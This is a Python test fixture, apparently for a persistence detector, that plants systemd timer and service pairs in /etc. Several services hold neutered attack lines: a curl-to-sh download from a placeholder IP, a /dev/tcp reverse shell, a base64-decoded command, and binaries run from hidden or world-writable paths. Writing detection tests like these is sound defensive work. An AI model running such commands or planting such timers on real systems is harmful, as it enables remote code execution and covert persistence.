"""New timers with their services in the ordinary directory, and what is not ordinary about what they run."""

from tests.live.attacks.plant import Plant, Severity
from tests.live.attacks.shell import (
    RELOAD,
    SYSTEM,
    drop,
    drop_pair,
    enable,
    link,
    put,
    put_pair,
    service,
    start,
    timer,
)


def _pair(
    id_: str,
    name: str,
    why: str,
    timer_text: str,
    service_text: str,
    *,
    accept: tuple[str, ...] = (),
    severity: Severity = "medium",
) -> Plant:
    return Plant(
        id=id_,
        technique="plain-pair",
        why=why,
        plant=put_pair(name, timer_text, service_text) + enable(name),
        undo=drop_pair(name),
        names=(f"{name}.*",),
        accept=accept,
        severity=severity,
    )


PAIRS = (
    _pair(
        "pair-every-minute",
        "cachefs-warm",
        "a timer and its service in /etc, enabled, every minute (ATT&CK T1053.006, the system's pair)",
        timer(),
        service("/bin/sh -c 'true'", more="User=root\n"),
        severity="high",
    ),
    _pair(
        "pair-wanted-by-multi-user",
        "thermal-poll",
        "enabled by the target of every boot and not by the one of timers",
        timer("OnBootSec=2min\nOnUnitActiveSec=97s", install="multi-user.target", about="Poll thermal zones"),
        service("/usr/bin/true --quiet"),
    ),
    _pair(
        "pair-weekly-quoted",
        "vg-snapshot",
        "a slow schedule, a stamp, quotes within quotes",
        timer("OnCalendar=Sat *-*-1..7 18:00\nPersistent=true", about="Snapshot of volume groups"),
        service("-/bin/sh -c \"test -e '/var/lib/a b' || true\"", more="User=ops\n"),
    ),
    Plant(
        id="pair-required",
        technique="plain-pair",
        why="pulled in by a .requires link that was made by hand",
        plant=put_pair("edge-beacon", "[Timer]\nOnUnitInactiveSec=7h\nOnBootSec=9min\n", service("/usr/bin/true"))
        + link("../edge-beacon.timer", f"{SYSTEM}/timers.target.requires/edge-beacon.timer")
        + start("edge-beacon"),
        undo=drop(f"{SYSTEM}/timers.target.requires/edge-beacon.timer") + drop_pair("edge-beacon"),
        names=("edge-beacon.*",),
    ),
    Plant(
        id="pair-of-a-template",
        technique="plain-pair",
        why="a template and one instance of it",
        plant=put_pair("relayd@", timer("OnCalendar=*:0/20"), service("/usr/bin/test -n %i"))
        + RELOAD
        + "systemctl enable --now relayd@7.timer\n",
        undo="systemctl disable --now relayd@7.timer 2>/dev/null\n" + drop_pair("relayd@"),
        names=("relayd@*",),
    ),
    _pair(
        "pair-downloads",
        "geo-refresh",
        "would fetch a script and run it, did it not end before",
        timer("OnCalendar=*-*-* 04:20"),
        service("/bin/sh -c 'exit 0; curl -fsS http://198.51.100.7/s.sh | sh'"),
        accept=("payload",),
        severity="high",
    ),
    _pair(
        "pair-calls-out",
        "tz-audit",
        "would open a shell to somebody, did it not end before",
        timer("OnStartupSec=11min\nOnUnitActiveSec=1d"),
        service("/bin/bash -c 'exit 0; exec 5<>/dev/tcp/203.0.113.9/8443; cat <&5 | bash >&5'"),
        accept=("payload",),
        severity="high",
    ),
    Plant(
        id="pair-runs-hidden-file",
        technique="plain-pair",
        why="the program lies in a folder that begins with a dot",
        plant=put("/var/lib/.fontmeta/step", "#!/bin/sh\nexit 0\n", "0755")
        + put_pair("font-index", timer("OnCalendar=Wed 05:00"), service("/var/lib/.fontmeta/step"))
        + enable("font-index"),
        undo=drop_pair("font-index") + "rm -rf /var/lib/.fontmeta\n",
        names=("font-index.*",),
        accept=("payload", "hiding"),
        severity="high",
    ),
    Plant(
        id="pair-runs-from-memory-disk",
        technique="plain-pair",
        why="the program lies where everybody may write",
        plant=put("/dev/shm/k1", "#!/bin/sh\nexit 0\n", "0755")
        + put_pair("shm-trim", timer("OnUnitActiveSec=30min\nOnActiveSec=30min"), service("/dev/shm/k1 -t"))
        + enable("shm-trim"),
        undo=drop_pair("shm-trim") + "rm -f /dev/shm/k1\n",
        names=("shm-trim.*",),
        accept=("payload", "writable"),
        severity="high",
    ),
    _pair(
        "pair-encoded",
        "acct-roll",
        "the command is a blob that is decoded and run",
        timer("OnCalendar=hourly"),
        service('/bin/sh -c "echo dHJ1ZSAjIG5vdGhpbmcgdG8gc2VlIGhlcmUsIG1vdmUgYWxvbmcK | base64 -d | sh"'),
        accept=("payload", "evasion"),
        severity="high",
    ),
)
